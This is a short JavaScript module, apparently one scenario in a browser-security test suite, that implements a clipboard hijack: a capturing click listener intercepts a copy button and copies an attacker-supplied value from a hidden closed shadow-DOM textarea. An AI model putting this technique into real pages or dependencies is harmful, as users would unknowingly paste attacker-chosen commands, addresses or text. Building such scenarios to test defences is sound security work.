// J03: when the user presses a copy button, a dependency selects a text of its own and has the browser copy that.
import { copyButton } from './copy-button.mjs';

export default copyButton({
  title: 'a copy command copies a hidden field',
  source: 'clipboard changers in the browser',

  attack(a) {
    const hijack = (event) => {
      if (event.target.id !== 'copy') return;
      event.stopImmediatePropagation();
      // In a closed shadow tree, whose events show nothing to the window.
      const host = document.body.appendChild(document.createElement('div'));
      const area = host.attachShadow({ mode: 'closed' }).appendChild(document.createElement('textarea'));
      area.value = a.EVIL;
      area.select();
      document.execCommand('copy');
      host.remove();
    };
    addEventListener('click', hijack, true);
  },
});
